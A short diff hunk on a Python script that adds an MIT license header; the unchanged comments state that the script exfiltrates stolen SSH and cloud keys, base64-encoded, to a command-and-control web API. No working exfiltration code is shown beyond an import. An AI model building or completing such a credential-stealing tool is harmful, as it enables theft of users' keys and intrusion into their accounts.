@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # Exfiltrates stolen credentials over its C2 channel: the user's SSH key
 # and cloud keys, encoded and POSTed to the C2's web API.
 import base64
